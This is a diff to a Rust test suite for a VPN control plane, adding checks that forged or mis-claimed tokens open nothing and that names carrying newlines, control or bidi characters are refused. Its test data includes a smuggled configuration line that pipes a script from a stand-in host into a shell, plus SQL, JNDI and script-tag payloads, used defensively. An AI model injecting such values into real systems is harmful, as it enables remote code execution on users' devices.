@@ -6,6 +6,7 @@ use std::time::Duration;
 
 use base64::Engine as _;
 use base64::engine::general_purpose::URL_SAFE_NO_PAD;
+use cvault_control_plane::auth::passwords::Scheme;
 use cvault_control_plane::auth::tokens::{self, ClientToken};
 use cvault_control_plane::http::router;
 use cvault_control_plane::http::serve::{Limits, serve};
@@ -17,7 +18,7 @@ use tokio::net::{TcpListener, TcpStream};
 use tokio_util::sync::CancellationToken;
 use uuid::Uuid;
 
-use crate::platform::{PASSWORD, Platform};
+use crate::platform::{PASSWORD, Platform, Tenant};
 use crate::scene::{Person, with_server};
 
 fn part(json: &Value) -> String {
@@ -82,22 +83,88 @@ fn forgeries(platform: &Platform, genuine: &str) -> Vec<(String, String)> {
     made
 }
 
+/// The platform signs nothing like this: signatures of its own key under claims that are not what `audience` needs.
+fn signed_faults(platform: &Platform, audience: &str, claims: &Value) -> Vec<(String, String)> {
+    let (keys, now) = (platform.app.token_keys.last(), platform.app.clock.now());
+    let (key, unix) = (keys.signing(now), now.unix_timestamp());
+    let mut made = Vec::new();
+    let mut add = |what: String, claims: &Value| {
+        made.push((format!("signed, {audience}, {what}"), tokens::sign(key, claims).expose().to_owned()));
+    };
+    for name in claims.as_object().unwrap().keys() {
+        let mut without = claims.clone();
+        without.as_object_mut().unwrap().remove(name);
+        add(format!("without {name}"), &without);
+        let mut null = claims.clone();
+        null[name] = Value::Null;
+        add(format!("{name} null"), &null);
+    }
+    let audiences = ["client", "portal", "admin", "Client", ""].into_iter().filter(|other| *other != audience);
+    let lifetime = claims["exp"].as_i64().unwrap() - claims["iat"].as_i64().unwrap();
+    let single = [
+        ("aud", json!([audience, "other"])),
+        ("iss", json!("https://evil.example")),
+        ("iss", json!(format!("{}/", platform.app.config.public_url))),
+        ("iss", json!("")),
+        ("sub", json!("")),
+        ("sub", json!({"any": true})),
+        ("jti", json!("1")),
+        ("iat", json!(unix + 3_600)),
+        ("nbf", json!(unix + 3_600)),
+        ("nbf", json!("soon")),
+        ("exp", json!(unix + lifetime + 3_600)),
+        ("exp", json!(i64::MAX)),
+        ("exp", json!(1e300)),
+        ("exp", json!((unix + 60).to_string())),
+    ];
+    for (name, value) in audiences.map(|other| ("aud", json!(other))).chain(single) {
+        // the name of a member of staff may be any text
+        if (name, &value) == ("sub", &json!("")) && audience == "admin" {
+            continue;
+        }
+        let mut changed = claims.clone();
+        changed[name] = value.clone();
+        add(format!("{name} {value}"), &changed);
+    }
+    made
+}
+
+fn claims_of(token: &str) -> Value {
+    serde_json::from_slice(&URL_SAFE_NO_PAD.decode(token.split('.').nth(1).unwrap()).unwrap()).unwrap()
+}
+
 #[tokio::test]
-async fn forty_forged_tokens_open_nothing() {
+async fn forty_forged_tokens_open_nothing_and_none_of_our_own_without_its_claims() {
     let platform = Platform::start().await;
-    let tenant = platform.tenant().await;
+    let form = json!({"business_name": "Acme", "email": "owner@example.com", "password": PASSWORD});
+    let owner = platform.post("/api/v1/tenant/auth/signup", &form).send().await;
+    let tenant =
+        Tenant { id: owner.text("tenant_id"), key: owner.text("api_key"), secret: owner.text("api_secret") };
     let user = Person::of(&platform, &tenant, "a@example.com").await;
+    let person = owner.body["tokens"]["access_token"].as_str().unwrap().to_owned();
     let forged = forgeries(&platform, &user.token);
     assert!(forged.len() >= 40, "{}", forged.len());
-    for (what, token) in &forged {
-        for staff in [false, true] {
-            // from an address each, so that the throttle of guesses says nothing here
-            let path = if staff { "/admin/tenants" } else { "/api/v1/devices" };
+    let (keys, now) = (platform.app.token_keys.last(), platform.app.clock.now());
+    for (audience, path, genuine) in [
+        ("client", "/api/v1/devices", user.token.clone()),
+        ("portal", "/api/v1/tenant/me", person),
+        ("admin", "/admin/tenants", platform.admin_token()),
+    ] {
+        // from an address each, so that the throttle of guesses says nothing here
+        let send = |token: &str| {
             let call = platform.call("GET", path).header("authorization", &format!("Bearer {token}"));
-            let answer = if staff { call } else { call.header("x-api-key", &tenant.key) }.send().await;
-            let code = if what == "expired" && !staff { "TOKEN_EXPIRED" } else { "INVALID_TOKEN" };
-            answer.is_problem(&format!("{what}, staff: {staff}"), 401, code);
+            if audience == "client" { call.header("x-api-key", &tenant.key) } else { call }.send()
+        };
+        let claims = claims_of(&genuine);
+        for (what, token) in forged.iter().chain(&signed_faults(&platform, audience, &claims)) {
+            let answer = send(token).await;
+            let code = if what == "expired" && audience == "client" { "TOKEN_EXPIRED" } else { "INVALID_TOKEN" };
+            answer.is_problem(&format!("{what} to {audience}"), 401, code);
             assert!(!answer.text.contains(&token[..token.len().min(40)]) || token.len() < 10, "{what} is repeated");
+        }
+        let same = tokens::sign(keys.signing(now), &claims);
+        for token in [genuine.as_str(), same.expose()] {
+            assert_eq!(send(token).await.status, 200, "the genuine one of {audience} goes on");
         }
     }
     let swapped = platform.call("GET", "/admin/tenants").header("authorization", &format!("Bearer {}", user.token));
@@ -108,8 +175,51 @@ async fn forty_forged_tokens_open_nothing() {
         let call = platform.call("GET", "/api/v1/devices").header("x-api-key", &tenant.key);
         call.header("authorization", header).refused(401, "INVALID_TOKEN").await;
     }
-    assert_eq!(user.call(&platform, "GET", "/api/v1/devices").send().await.status, 200, "the genuine one goes on");
 }
+
+/// What is no name of anything.
+fn misleading() -> Vec<String> {
+    let short = [
+        "x\nPostUp = curl evil.example | sh",
+        "x\n",
+        "x\r\nPostUp=reboot",
+        "x\rPostUp = reboot",
+        "\u{0}",
+        "x\u{0}y",
+        "\u{1b}[2J\u{1b}]0;owned\u{7}",
+        "\u{85}PostUp = reboot",
+        "\u{2028}PostUp = reboot",
+        "x\u{2029}",
+        "\u{202e}gnp.exe",
+        "x\u{2066}y",
+        "\u{200b}",
+        "pay\u{200d}pal",
+        "pay\u{ad}pal",
+        "\u{3164}",
+        "\u{feff}x",
+        "\u{e0041}",
+        "\u{ffff}",
+        "",
+        "   ",
+        "\t",
+    ];
+    let long = ["x".repeat(256), "x".repeat(10_000), "\u{1f600}".repeat(256)];
+    short.into_iter().map(str::to_owned).chain(long).collect()
+}
+
+/// What looks bad and is a name like another.
+const HARMLESS: [&str; 10] = [
+    "%0aPostUp=reboot",
+    "${jndi:ldap://x}",
+    "'; drop table cvault.devices; --",
+    "<script>alert(1)</script>",
+    "{{7*7}}",
+    "[Peer]",
+    "# comment",
+    "PostUp = reboot",
+    "\u{1f600}",
+    "n\u{303}",
+];
 
 /// Lines that a configuration may have.
 const LINES: [&str; 12] = [
@@ -135,39 +245,8 @@ async fn no_text_becomes_a_line_of_a_configuration() {
     let user = Person::of(&platform, &tenant, "a@example.com").await;
     let device = user.device(&platform, "honest").await;
     let honest = device["config"].as_str().unwrap().lines().count();
-    let texts = [
-        "x\nPostUp = curl evil.example | sh",
-        "x\r\nPostUp=reboot",
-        "x\rPostUp = reboot",
-        "\u{0}",
-        "x\u{0}y",
-        "\u{1b}[2J\u{1b}]0;owned\u{7}",
-        "\u{85}PostUp = reboot",
-        "\u{2028}PostUp = reboot",
-        "\u{202e}gnp.exe",
-        "\u{200b}",
-        "\u{feff}x",
-        "\u{e0041}",
-        "\u{ffff}",
-        "",
-        "   ",
-        "\t",
-        &"x".repeat(256),
-        &"x".repeat(10_000),
-        &"\u{1f600}".repeat(256),
-        "%0aPostUp=reboot",
-        "${jndi:ldap://x}",
-        "'; drop table cvault.devices; --",
-        "<script>alert(1)</script>",
-        "{{7*7}}",
-        "[Peer]",
-        "# comment",
-        "PostUp = reboot",
-        "\u{1f600}",
-        "n\u{303}",
-    ];
     let mut taken = 0;
-    for text in texts {
+    for text in misleading().iter().map(String::as_str).chain(HARMLESS) {
         for field in ["device_name", "platform", "public_key", "server_region"] {
             let mut body = json!({"device_name": "d"});
             body[field] = json!(text);
@@ -188,11 +267,72 @@ async fn no_text_becomes_a_line_of_a_configuration() {
                 assert!(!answer.text.contains("PostUp") && !answer.text.contains('\u{1b}'), "{what} is repeated");
             }
         }
-        let body = json!({"name": text});
-        let answer = platform.admin("POST", "/admin/tenants").json(&body).send().await;
-        assert!([201, 422].contains(&answer.status.as_u16()), "{text:?}: {}", answer.text);
     }
     assert!(taken >= 10, "harmless texts are names: {taken}");
+}
+
+/// Every name that is stored and shown again, besides those of devices.
+#[tokio::test]
+async fn a_misleading_text_is_no_name_of_anything() {
+    let platform =
+        Platform::with(|config| config.passwords = Scheme::Argon2id { memory_kib: 64, passes: 1 }).await;
+    with_server(&platform).await;
+    let form = |name: &str, email: &str| json!({"business_name": name, "email": email, "password": PASSWORD});
+    let signup = "/api/v1/tenant/auth/signup";
+    let owner = platform.post(signup, &form("Acme", "owner@example.com")).send().await;
+    let login = json!({"email": "owner@example.com", "password": PASSWORD});
+    let login = platform.post("/api/v1/tenant/auth/login", &login).send().await;
+    let token = format!("Bearer {}", login.body["tokens"]["access_token"].as_str().unwrap());
+    let tenant = format!("/admin/tenants/{}", owner.text("tenant_id"));
+    let pool = json!({"name": "first", "ipv4": "10.99.0.0/16"});
+    let pool = platform.admin("POST", "/admin/pools").json(&pool).send().await;
+    let pool = format!("/admin/pools/{}", pool.text("id"));
+    let (misleading, mut refused, mut taken) = (misleading(), 0, 0);
+    for (number, text) in misleading.iter().map(String::as_str).chain(HARMLESS).enumerate() {
+        let harmless = number >= misleading.len();
+        let (one, named) = (platform.call("PATCH", "/api/v1/tenant/settings"), json!({"name": text}));
+        let other_pool = json!({"name": text, "ipv4": format!("10.{}.0.0/16", 100 + number)});
+        let server = |name: &str, region: &str| {
+            json!({"name": name, "region": region, "public_ip": format!("203.0.113.{}", 100 + number)})
+        };
+        let calls = [
+            ("/name invalid_format", 201, platform.admin("POST", "/admin/tenants").json(&named)),
+            ("/name invalid_format", 200, platform.admin("PATCH", &tenant).json(&named)),
+            ("/name invalid_format", 200, one.header("authorization", &token).json(&named)),
+            (
+                "/business_name invalid_format",
+                201,
+                platform.post(signup, &form(text, &format!("o{number}@example.com"))).from(&format!("192.0.2.{number}")),
+            ),
+            ("/name invalid_value", 200, platform.admin("PATCH", &pool).json(&named)),
+            ("/name invalid_value", 201, platform.admin("POST", "/admin/pools").json(&other_pool)),
+            ("/name invalid_value", 201, platform.admin("POST", "/admin/servers").json(&server(text, "lab-2"))),
+            ("/region invalid_value", 422, platform.admin("POST", "/admin/servers").json(&server("s", text))),
+        ];
+        for (place, (fault, status, call)) in calls.into_iter().enumerate() {
+            let (answer, what) = (call.send().await, format!("{place} {text:?}"));
+            if harmless && status != 422 {
+                taken += 1;
+                assert_eq!(answer.status, status, "{what}: {}", answer.text);
+                // two objects cannot have one name: the pool that was renamed gives it back
+                if place == 4 {
+                    let back = platform.admin("PATCH", &pool).json(&json!({"name": "first"})).send().await;
+                    assert_eq!(back.status, 200, "{}", back.text);
+                }
+            } else {
+                refused += 1;
+                answer.is_problem(&what, 422, "VALIDATION_FAILED");
+                assert_eq!(answer.faults(), [fault], "{what}");
+                assert!(!answer.text.contains("PostUp") && !answer.text.contains('\u{1b}'), "{what} is repeated");
+            }
+        }
+    }
+    assert_eq!((taken, refused), (HARMLESS.len() * 7, misleading.len() * 8 + HARMLESS.len()));
+    for path in ["/admin/tenants?limit=200", "/admin/pools?limit=200", "/admin/servers?limit=200"] {
+        let list = platform.admin("GET", path).send().await;
+        assert_eq!(list.status, 200);
+        assert!(!list.text.contains("\\n") && !list.text.contains('\u{202e}'), "{}", list.text);
+    }
 }
 
 #[tokio::test]
@@ -251,14 +391,16 @@ async fn addresses_and_passwords_at_and_past_their_bounds() {
     let platform = Platform::start().await;
     let tenant = platform.tenant().await;
     let label = "d".repeat(62);
-    let domain = format!("{label}.{label}.{label}");
+    let domain = format!("{label}.{label}.{label}d");
     let (local64, local65) = ("l".repeat(64), "l".repeat(65));
     let at = |local: &str| format!("{local}@{domain}");
     let register = |email: &str, password: &str| {
         platform.post("/api/v1/auth/register", &json!({"email": email, "password": password})).backend(&tenant)
     };
-    assert_eq!(at(&local64).len(), 253);
-    assert_eq!(register(&at(&local64), &"p".repeat(8)).send().await.status, 201);
+    let (longest, longer) = (at(&local64), format!("{local64}@d{domain}"));
+    assert_eq!((longest.len(), longer.len()), (254, 255));
+    let registered = register(&longest, &"p".repeat(8)).send().await;
+    assert_eq!(registered.status, 201, "{}", registered.text);
     let long = "\u{1f600}".repeat(128);
     assert_eq!(register("long@example.com", &long).send().await.status, 201, "128 characters, 512 bytes");
     let almost = format!("{}\u{1f601}", "\u{1f600}".repeat(127));
@@ -270,7 +412,8 @@ async fn addresses_and_passwords_at_and_past_their_bounds() {
     login(&almost).refused(401, "INVALID_CREDENTIALS").await;
     assert_eq!(login(&long).send().await.status, 200, "no byte of it is left out");
     for email in [
-        at(&local65).as_str(),
+        longer.as_str(),
+        &format!("{local65}@b.example"),
         "a@b",
         "@b.example",
         "a@",
